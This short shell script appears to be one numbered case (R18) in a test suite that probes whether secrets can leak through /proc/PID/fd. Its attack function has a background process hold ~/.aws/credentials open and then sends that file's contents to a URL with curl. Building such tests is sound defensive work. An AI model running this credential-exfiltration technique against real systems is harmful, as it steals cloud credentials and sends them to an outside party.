# SPDX-License-Identifier: Apache-2.0
TITLE="/proc/PID/fd: another process opened the secret for reading and never read it"
ROW="R18"
attack() {
	sleep 30 3<"$HOME/.aws/credentials" &
	local holder=$!
	sleep 0.3
	curl -s -m 5 --data-binary "@/proc/$holder/fd/3" "$URL/"
	kill $holder
}
